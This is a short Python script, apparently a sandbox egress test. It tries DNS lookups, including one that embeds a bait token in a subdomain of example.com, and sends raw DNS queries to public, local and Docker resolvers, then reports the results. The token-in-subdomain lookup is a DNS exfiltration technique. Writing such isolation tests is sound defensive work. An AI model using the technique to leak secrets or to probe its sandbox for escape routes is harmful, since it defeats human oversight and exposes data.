import socket

import attempts

for name in ("example.org", "pypi.org", f"{attempts.BAIT['token']}.example.com"):
    attempts.tried(f"look up {name}", lambda name=name: socket.getaddrinfo(name, 80))
QUESTION = b"\x13\x37\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03org\x00\x00\x01\x00\x01"


def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.settimeout(1)
        probe.sendto(QUESTION, (server, 53))
        return probe.recv(512)


for server in ("1.1.1.1", "127.0.0.53", "127.0.0.11", "172.17.0.1"):
    attempts.tried(f"ask {server}", lambda server=server: ask(server))
attempts.report()
